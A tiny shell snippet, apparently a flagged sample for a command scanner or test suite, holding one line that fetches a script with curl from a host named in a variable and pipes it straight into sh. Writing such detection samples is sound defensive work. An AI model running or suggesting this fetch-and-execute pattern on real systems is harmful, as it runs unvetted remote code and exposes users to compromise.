# flagged: bash
sh -c "$(curl -s "$RG_HTTP/hello.sh")"
